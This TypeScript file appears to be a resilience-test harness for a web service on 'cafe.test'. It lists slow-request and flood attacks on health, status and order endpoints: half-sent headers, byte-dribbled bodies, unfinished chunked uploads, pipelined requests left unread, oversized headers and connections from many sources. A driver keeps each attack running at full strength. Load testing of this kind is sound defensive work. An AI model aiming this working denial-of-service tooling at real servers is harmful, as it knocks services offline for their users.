import { setMaxListeners } from "node:events";
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

/** The target and the source of an attack. */
export interface Aim {
  readonly host: string;
  readonly port: number;
  /** The source address. */
  readonly from: string;
}

/** One way to block or flood a server; it continues until the signal. */
export interface Attack {
  readonly name: string;
  /** The number of connections that each source keeps open. */
  readonly connections: number;
  /** The number of source addresses. Default: one. */
  readonly sources?: number;
  /** Sends through one connection while it is open; the attack then opens the next immediately. */
  readonly send: (socket: Socket, signal: AbortSignal) => Promise<void>;
}

const head = (method: string, path: string, ...fields: readonly string[]) =>
  [`${method} ${path} HTTP/1.1`, "Host: cafe.test", ...fields, "", ""].join("\r\n");
const json = "Content-Type: application/json";
const form = "Content-Type: application/x-www-form-urlencoded";
const menu = "name=Ana&items[tea]=1";
const order = JSON.stringify({ id: "0", name: "x" });

const silence = (text: string): Attack["send"] => {
  return async (socket) => {
    socket.write(text);
    return Promise.resolve();
  };
};

/** A few bytes at a time, so that a limit on the rate alone never ends it. */
const dribble = (text: string, bytesPerSecond: number): Attack["send"] => {
  return async (socket, signal) => {
    socket.write(text);
    while (!socket.destroyed && !signal.aborted) {
      await sleep(500);
      socket.write("x".repeat(bytesPerSecond / 2));
    }
  };
};

/** Complete requests, each sent as soon as the last is answered. */
const flood = (request: string): Attack["send"] => {
  return async (socket) => {
    socket.on("data", () => socket.write(request));
    socket.write(request);
    return Promise.resolve();
  };
};

/** Many requests at the same time, whose answers are never read. */
const unread = (request: string): Attack["send"] => {
  return async (socket) => {
    socket.pause();
    socket.write(request.repeat(1000));
    return Promise.resolve();
  };
};

const length = (bytes: number) => `Content-Length: ${bytes}`;

/** Attacks that have taken the health paths or the orders down, and similar ones. */
export const ATTACKS: readonly Attack[] = [
  {
    name: "8 × POST /healthcheck with 1 MB announced, some bytes, then silence",
    connections: 8,
    send: silence(head("POST", "/healthcheck", length(1_000_000)) + "x".repeat(50)),
  },
  {
    name: "8 × POST /health.php with 1 KB announced, some bytes, then silence",
    connections: 8,
    send: silence(head("POST", "/health.php", length(1000)) + "x".repeat(50)),
  },
  {
    name: "9 × POST /healthcheck at 600 B/s",
    connections: 9,
    send: dribble(head("POST", "/healthcheck", length(1_000_000)), 600),
  },
  {
    name: "9 × GET /status with a body at 600 B/s",
    connections: 9,
    send: dribble(head("GET", "/status", length(1_000_000)), 600),
  },
  {
    name: "24 × POST /orders, half a body, then silence",
    connections: 24,
    send: silence(head("POST", "/orders", json, length(2000)) + order),
  },
  {
    name: "24 × POST /orders at 600 B/s",
    connections: 24,
    send: dribble(head("POST", "/orders", json, length(60_000)), 600),
  },
  {
    name: "24 × POST /orders in chunks, never the last",
    connections: 24,
    send: silence(`${head("POST", "/orders", json, "Transfer-Encoding: chunked")}2\r\n{}\r\n`),
  },
  {
    name: "300 × half-sent headers",
    connections: 300,
    send: silence("GET /healthcheck HTTP/1.1\r\nHost: cafe.test\r\n"),
  },
  {
    name: "1000 × a connection and not a word",
    connections: 1000,
    send: silence(""),
  },
  {
    name: "200 × GET /health.php as fast as answered",
    connections: 200,
    send: flood(head("GET", "/health.php")),
  },
  {
    name: "200 × POST /orders as fast as answered",
    connections: 200,
    send: flood(head("POST", "/orders", json, length(order.length)) + order),
  },
  {
    name: "60 × GET /order.js a thousand times, no answer read",
    connections: 60,
    send: unread(head("GET", "/order.js")),
  },
  {
    name: "60 × GET /health.php a thousand times, no answer read",
    connections: 60,
    send: unread(head("GET", "/health.php")),
  },
  {
    name: "60 × POST /orders/review a thousand times, no answer read",
    connections: 60,
    send: unread(
      head("POST", "/orders/review", "Accept: text/html", form, length(menu.length)) + menu,
    ),
  },
  {
    name: "60 × GET /health.php with 700 KB of headers",
    connections: 60,
    send: flood(
      head(
        "GET",
        "/health.php",
        ...Array.from({ length: 90 }, (_, n) => `X-${n}: ${"x".repeat(8000)}`),
      ),
    ),
  },
  {
    name: "60 × POST /orders in chunks of one byte",
    connections: 60,
    send: flood(
      `${head("POST", "/orders", json, "Transfer-Encoding: chunked")}${"1\r\nx\r\n".repeat(3000)}`,
    ),
  },
  {
    name: "from 40 addresses, 64 × half-sent headers each",
    connections: 64,
    sources: 40,
    send: silence("GET / HTTP/1.1\r\nHost: cafe.test\r\n"),
  },
];

/** Continues an attack at full strength until the signal; it replaces connections that end. */
export async function keepUp(attack: Attack, aim: Aim, signal: AbortSignal): Promise<void> {
  setMaxListeners(0, signal);
  await Promise.all(
    Array.from({ length: attack.connections }, async () => {
      while (!signal.aborted) await once(attack, aim, signal);
    }),
  );
}

async function once(attack: Attack, aim: Aim, signal: AbortSignal): Promise<void> {
  const socket = connect({ host: aim.host, port: aim.port, localAddress: aim.from });
  const ended = new Promise<void>((resolve) => {
    socket.on("close", () => {
      resolve();
    });
  });
  const stop = () => socket.destroy();
  signal.addEventListener("abort", stop);
  socket.on("error", () => undefined);
  socket.resume();
  socket.on("connect", () => void attack.send(socket, signal));
  await ended;
  signal.removeEventListener("abort", stop);
  // Refused connections must not become a loop that loads the machine.
  await sleep(20);
}
